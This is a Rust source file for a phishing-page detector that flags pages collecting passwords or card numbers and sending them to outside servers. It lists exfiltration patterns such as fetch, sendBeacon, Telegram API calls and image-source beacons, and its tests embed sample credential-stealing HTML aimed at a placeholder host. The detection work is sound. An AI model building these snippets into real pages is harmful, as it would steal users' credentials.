//! Pages that ask for a password and send it to a server, and where pages lead by themselves.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, MatchKind};

use super::place::{Place, plain};
use super::{Analyzer, Findings, Found, Look, Sees};
use crate::formats::html::{self, Page, Tag};
use crate::model::{Family, IocType, Kind};
use crate::text::{self, AnyOf};

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "credential_form",
    kinds: &[Kind::Html, Kind::Svg, Kind::Hta, Kind::Js],
    sees: Sees::Place,
    findings: &["credential-form"],
    run,
};

/// Tags that are looked at.
const READ: &[&str] = &["input", "form", "button", "base", "meta", "iframe", "frame"];

/// What a page says, in lower case, that asks for a password or leads somewhere.
static ASKS: LazyLock<AnyOf> = LazyLock::new(|| {
    AnyOf::new(&[
        "passw", "pswd", "\"pass\"", "refresh", "<iframe", "<form", "location",
    ])
});

/// What a script says where it goes somewhere or sends something.
#[derive(Clone, Copy)]
struct Word {
    text: &'static str,
    /// An address behind it is where it leads.
    leads: bool,
    /// It sends something.
    sends: bool,
    /// What it is besides.
    role: Role,
}

/// What else a word shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    None,
    /// A field is made one for passwords.
    Made,
    /// A picture is asked for.
    Picture,
}

const fn word(text: &'static str, leads: bool, sends: bool) -> Word {
    Word {
        text,
        leads,
        sends,
        role: Role::None,
    }
}

const fn of_role(text: &'static str, role: Role) -> Word {
    Word {
        role,
        ..word(text, false, false)
    }
}

/// Of words that start alike, the longer stands first.
const WORDS: &[Word] = &[
    word("location.href", true, false),
    word("location=", true, false),
    word("location =", true, false),
    word("location.replace(", true, false),
    word("location.assign(", true, false),
    word("fetch(", true, true),
    word(".open(", true, false),
    word("url:", true, false),
    word("$.post(", true, true),
    word("sendBeacon(", true, true),
    word("axios.post(", true, true),
    word("XMLHttpRequest", false, true),
    word("$.ajax", false, true),
    word("$.post", false, true),
    word("axios", false, true),
    word("sendBeacon", false, true),
    word("api.telegram.org", false, true),
    of_role("setAttribute(\"type\",\"password\")", Role::Made),
    of_role("setAttribute('type','password')", Role::Made),
    of_role("setAttribute(\"type\", \"password\")", Role::Made),
    of_role("setAttribute('type', 'password')", Role::Made),
    of_role(".type=\"password\"", Role::Made),
    of_role(".type='password'", Role::Made),
    of_role(".type = \"password\"", Role::Made),
    of_role(".type = 'password'", Role::Made),
    of_role(".src=", Role::Picture),
    of_role(".src =", Role::Picture),
];

static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let mut builder = AhoCorasick::builder();
    let builder = builder.match_kind(MatchKind::LeftmostFirst);
    builder.build(WORDS.iter().map(|word| word.text)).ok()
});

/// Where each of [`WORDS`] ends in a text, the first 32 times.
struct Words(Vec<Vec<usize>>);

impl Words {
    fn of(source: &str) -> Self {
        const MOST: usize = 32;
        let mut ends = vec![Vec::new(); WORDS.len()];
        for found in FINDER.iter().flat_map(|finder| finder.find_iter(source)) {
            let list = ends.get_mut(found.pattern().as_usize());
            if let Some(list) = list.filter(|list| list.len() < MOST) {
                list.push(found.end());
            }
        }
        Self(ends)
    }

    /// The words with the places where they end.
    fn each(&self) -> impl Iterator<Item = (&'static Word, &[usize])> {
        WORDS.iter().zip(self.0.iter().map(Vec::as_slice))
    }

    /// Whether something is sent.
    fn send(&self) -> bool {
        self.each()
            .any(|(word, ends)| word.sends && !ends.is_empty())
    }
}

fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let artifact = look.artifact;
    let in_document = look
        .parent()
        .is_some_and(|parent| matches!(parent.kind.family(), Family::Ooxml | Family::Odf));
    let page = matches!(artifact.kind, Kind::Html | Kind::Svg | Kind::Hta);
    // What a script of a page puts together may be the page.
    let written = artifact.kind == Kind::Js
        && artifact.via == Some("decoded-text")
        && look
            .ancestors()
            .any(|above| above.via == Some("script-block"));
    if !page && !written || in_document {
        return;
    }
    let data = &artifact.data;
    // Texts of two bytes a character are rare, and read whole.
    let wide = data.starts_with(b"\xff\xfe") || data.starts_with(b"\xfe\xff");
    let page = Page::of(&artifact.data, artifact.sha256);
    if !wide && !ASKS.is_in(page.lower().as_bytes()) {
        return;
    }
    let source = page.text();
    let mut password = None;
    let mut target = None;
    let (mut base, mut by_base) = (None, false);
    for tag in page.tags_named(READ) {
        match tag.name.as_ref() {
            "input" if is_password(&tag) => {
                password.get_or_insert(tag.at);
            }
            "form" | "button" | "input" => {
                let name = if tag.name == "form" {
                    "action"
                } else {
                    "formaction"
                };
                let action = tag.attribute(name);
                let action = action.as_deref();
                if let Some(address) = action.and_then(|value| outside(look, value)) {
                    findings.ioc(IocType::Url, &address);
                    target.get_or_insert(address);
                } else if let Some(address) = action.filter(|value| is_mail(value)) {
                    target.get_or_insert(plain(address));
                }
                by_base |= tag.name == "form" && action.is_none_or(|value| !value.starts_with('#'));
            }
            // Where every address of the page that names no host leads (HTML Standard, 4.2.3).
            "base" => {
                let address = tag.attribute("href");
                let address = address.and_then(|value| outside(look, &value));
                base = base.or(address);
            }
            "meta" => {
                if let Some(address) = html::refresh(&tag).and_then(|value| outside(look, &value)) {
                    findings.ioc(IocType::Url, &address);
                }
            }
            "iframe" | "frame" => {
                if let Some(address) = tag.attribute("src").and_then(|value| outside(look, &value))
                {
                    findings.ioc(IocType::Url, &address);
                }
            }
            _ => {}
        }
    }
    if let Some(base) = base.filter(|_| by_base) {
        findings.ioc(IocType::Url, &base);
        target.get_or_insert(base);
    }
    let words = Words::of(source);
    let mut sent = scripted(look, source, &words);
    if password.is_none() {
        password = password_by_script(&words);
    }
    let shown = asked_for(look, source, &words);
    let posts = words.send() || !shown.is_empty();
    sent.extend(shown);
    for address in &sent {
        findings.ioc(IocType::Url, address);
    }
    let Some(at) = password else {
        return;
    };
    if target.is_none() && sent.is_empty() {
        sent = in_scripts(look);
    }
    let Some(target) = target.or_else(|| sent.into_iter().next().filter(|_| posts)) else {
        return;
    };
    findings.report(Found::new("credential-form", &format!("password sent to {target}")).at(at));
}

/// Addresses in what the page's scripts put together.
fn in_scripts(look: &Look<'_>) -> Vec<String> {
    /// Scripts that are looked at: pages that steal something have one or two.
    const SCRIPTS: usize = 16;
    let below = |artifact| Look { artifact, ..*look }.children();
    let scripts = below(look.artifact)
        .iter()
        .filter(|child| child.via == Some("script-block"));
    let built = scripts
        .take(SCRIPTS)
        .flat_map(|script| below(script).iter().take(SCRIPTS));
    built
        .filter(|child| child.kind == Kind::Js)
        .flat_map(|child| {
            let source = text::to_utf8(&child.data);
            scripted(look, &source, &Words::of(&source))
        })
        .collect()
}

/// A field for a password, also one that only looks like another.
fn is_password(tag: &Tag<'_>) -> bool {
    let value = |name| tag.attribute(name).unwrap_or_default().to_ascii_lowercase();
    let kind = value("type");
    if kind == "password" {
        return true;
    }
    if matches!(kind.as_str(), "" | "text" | "tel" | "number") && asks_for_secret(tag) {
        return true;
    }
    let named = ["name", "id", "placeholder"]
        .iter()
        .any(|name| value(name).contains("passw"));
    named && matches!(kind.as_str(), "" | "text") && value("style").contains("text-security")
}

/// Whether a field in plain sight asks for what nobody sends in a form of a mail: what browsers would fill into it (HTML
/// Standard, 4.10.18.7 "Autofill"), or what it says itself.
fn asks_for_secret(tag: &Tag<'_>) -> bool {
    const FILLED: [&str; 4] = ["current-password", "new-password", "cc-number", "cc-csc"];
    const SAID: [&str; 9] = [
        "password",
        "passcode",
        "パスワード",
        "暗証番号",
        "カード番号",
        "セキュリティコード",
        "card number",
        "security code",
        "cvv",
    ];
    let filled = tag.attribute("autocomplete").unwrap_or_default();
    let mut filled = filled.split_ascii_whitespace();
    filled.any(|token| FILLED.iter().any(|one| token.eq_ignore_ascii_case(one)))
        || ["placeholder", "aria-label"].iter().any(|name| {
            let said = tag.attribute(name).unwrap_or_default().to_lowercase();
            SAID.iter().any(|word| said.contains(word))
        })
}

/// Whether a form is sent by mail.
fn is_mail(action: &str) -> bool {
    let scheme = action.trim_start().get(..7);
    scheme.is_some_and(|scheme| scheme.eq_ignore_ascii_case("mailto:"))
}

/// Where a script makes a field one for passwords.
fn password_by_script(words: &Words) -> Option<usize> {
    let mut made = words.each().filter(|(word, _)| word.role == Role::Made);
    made.find_map(|(word, ends)| ends.first()?.checked_sub(word.text.len()))
}

/// Addresses that scripts ask for as a picture, with something behind them.
fn asked_for(look: &Look<'_>, source: &str, words: &Words) -> Vec<String> {
    let mut found = Vec::new();
    let pictures = words.each().filter(|(word, _)| word.role == Role::Picture);
    for (_, ends) in pictures {
        for end in ends {
            let rest = source.get(*end..).unwrap_or_default();
            let near = rest.get(..rest.floor_char_boundary(400)).unwrap_or(rest);
            let near = near.trim_start();
            let literal = near
                .starts_with(['"', '\'', '`'])
                .then(|| quoted(near).next())
                .flatten();
            let address = literal.filter(|text| text.ends_with('=') || text.contains("=${"));
            let address = address.filter(|text| !is_program(text) || is_given(near));
            found.extend(address.and_then(|text| outside(look, text)));
        }
    }
    found
}

/// Whether an address is that of a script: pages load those of others with a number of their own behind them.
fn is_program(address: &str) -> bool {
    let path = address.split('?').next().unwrap_or_default();
    path.ends_with(".js")
}

/// Whether what stands behind an address is what somebody typed.
fn is_given(statement: &str) -> bool {
    let statement = statement.split([';', '\n']).next().unwrap_or_default();
    let typed = ["value", "val(", "pass", "pwd"];
    typed.iter().any(|word| statement.contains(word))
}

/// An address on the web, in the form in which it is fetched.
fn outside(look: &Look<'_>, value: &str) -> Option<String> {
    let target = plain(value);
    let protocol_relative = target.starts_with("//");
    let web = Place::of(&target, &look.knowledge.links) == Place::Web;
    (web || protocol_relative).then_some(target)
}

/// Addresses to which a script of the page goes or sends something.
fn scripted(look: &Look<'_>, source: &str, words: &Words) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for (_, ends) in words.each().filter(|(word, _)| word.leads) {
        for end in ends {
            let rest = source.get(*end..).unwrap_or_default();
            let near = rest.get(..rest.floor_char_boundary(400)).unwrap_or(rest);
            // The first text behind it, or the second where the first is a method.
            let address = quoted(near).find_map(|text| outside(look, text));
            if let Some(address) = address.filter(|address| !found.contains(address)) {
                found.push(address);
            }
        }
    }
    found
}

/// The first two texts in quotation marks of any kind; the last mark may lie beyond the end.
fn quoted(text: &str) -> impl Iterator<Item = &str> {
    let mut marks = memchr::memchr3_iter(b'"', b'\'', b'`', text.as_bytes());
    std::iter::from_fn(move || {
        let start = marks.next()?.saturating_add(1);
        let end = marks.next().unwrap_or(text.len());
        text.get(start..end)
    })
    .take(2)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{holding, run as run_on};
    use super::*;

    fn found(page: &str) -> (usize, usize) {
        let (findings, iocs) = run_on(run, &[holding(Kind::Html, page.as_bytes())]);
        (findings.len(), iocs.len())
    }

    #[test]
    fn passwords_that_leave_are_found_and_those_that_stay_are_not() {
        for page in [
            "<form action=\"https://login.example.invalid/p.php\" method=post><input type=password name=p></form>",
            "<form><input type='PASSWORD'></form><script>fetch('https://login.example.invalid/', {method: 'POST'})</script>",
            "<script>document.write(\"<form action=\\\"//login.example.invalid/\\\"><input type=\\\"password\\\">\")</script>",
            "<script>x.open('POST', 'https://login.example.invalid/'); new XMLHttpRequest()</script><input type=password>",
            "<base href=\"https://login.example.invalid/\"><form action=p.php method=post><input type=password></form>",
            "<input type=password id=p><script>new Image().src = 'https://login.example.invalid/?p=' + p.value</script>",
            "<form action='https://login.example.invalid/'><input id=q></form><script>q.setAttribute('type', 'password')</script>",
            "<form action='https://login.example.invalid/'><input name=b placeholder='パスワード'></form>",
            "<form action='https://login.example.invalid/'><input type=tel placeholder='暗証番号(4桁)'></form>",
            "<form action='https://login.example.invalid/'><input autocomplete='section-a cc-csc'></form>",
            "<form action=https&colon;//login.example.invalid/><input type=&#112assword></form>",
            "<input type=password id=p><script>s.src = 'https://login.example.invalid/a.js?p=' + p.value</script>",
        ] {
            assert_eq!(found(page), (1, 1), "{page}");
        }
        for page in [
            "<form action=\"/login\"><input type=password></form>",
            "<form action=\"https://www.example.com/search\"><input name=q></form>",
            "<form action='https://www.example.com/in'><input placeholder='お名前' autocomplete=name></form>",
            "<form action='https://www.example.com/in'><input type=hidden placeholder=Password></form>",
            "<form action=/in><input placeholder='パスワード'></form>",
            "<p>Your password has been changed: <a href=\"https://www.example.com/\">see</a></p>",
            "<form><input type=password></form>",
            "<base href=\"https://www.example.com/\"><form action=search><input name=q></form>",
            "<base href=\"/app/\"><form action=p><input type=password></form>",
            "<input type=password><script>logo.src = 'https://www.example.com/logo.png'</script>",
            "<form action=/in><input type=password></form><script>j.src = 'https://www.example.com/tags.js?id=' + i + dl; p.value = 1</script>",
        ] {
            assert_eq!(found(page).0, 0, "{page}");
        }
    }

    #[test]
    fn words_are_found_where_they_stand_and_are_what_their_rows_say() {
        let of = |text: &str| {
            let words = Words::of(text);
            let found = words.each().filter(|(_, ends)| !ends.is_empty());
            found
                .map(|(word, ends)| (word.text, ends.to_vec()))
                .collect::<Vec<_>>()
        };
        let words = Words::of("axios.post('/a'); a.type='password'; $.ajax; $.post(b)");
        assert_eq!(of("axios.post('/a')"), [("axios.post(", vec![11])]);
        assert_eq!(password_by_script(&words), Some(19));
        assert!(words.send() && !Words::of("x.src = location.href").send());
        // Every word is found where it stands alone.
        for word in WORDS {
            assert_eq!(of(word.text), [(word.text, vec![word.text.len()])]);
            assert_eq!(word.role == Role::Made, word.text.contains("password"));
            assert_eq!(word.role == Role::Picture, word.text.contains(".src"));
        }
    }

    #[test]
    fn a_form_that_is_sent_by_mail_is_found() {
        let page = "<form action=\"mailto:a@example.invalid\"><input type=password></form>";
        assert_eq!(found(page).0, 1);
        assert_eq!(
            found("<form action=\"mailto:a@example.invalid\"><input name=q></form>").0,
            0
        );
    }

    #[test]
    fn texts_in_quotation_marks_are_the_first_two() {
        let texts = |text| quoted(text).collect::<Vec<_>>();
        assert_eq!(texts("('POST', \"https://a\", `b`)"), ["POST", "https://a"]);
        assert_eq!(texts(" = \"あ'い"), ["あ"]);
        assert_eq!(texts("'' + 'open"), ["", "open"]);
        assert!(texts("none").is_empty());
    }

    #[test]
    fn where_a_page_leads_is_kept() {
        assert_eq!(
            found("<META HTTP-EQUIV=Refresh content=\"0;URL='https://example.invalid/a'\">"),
            (0, 1)
        );
        assert_eq!(
            found("<script>window.location.href = \"https://example.invalid/\";</script>"),
            (0, 1)
        );
        assert_eq!(found("<meta http-equiv=refresh content=\"30\">"), (0, 0));
    }
}
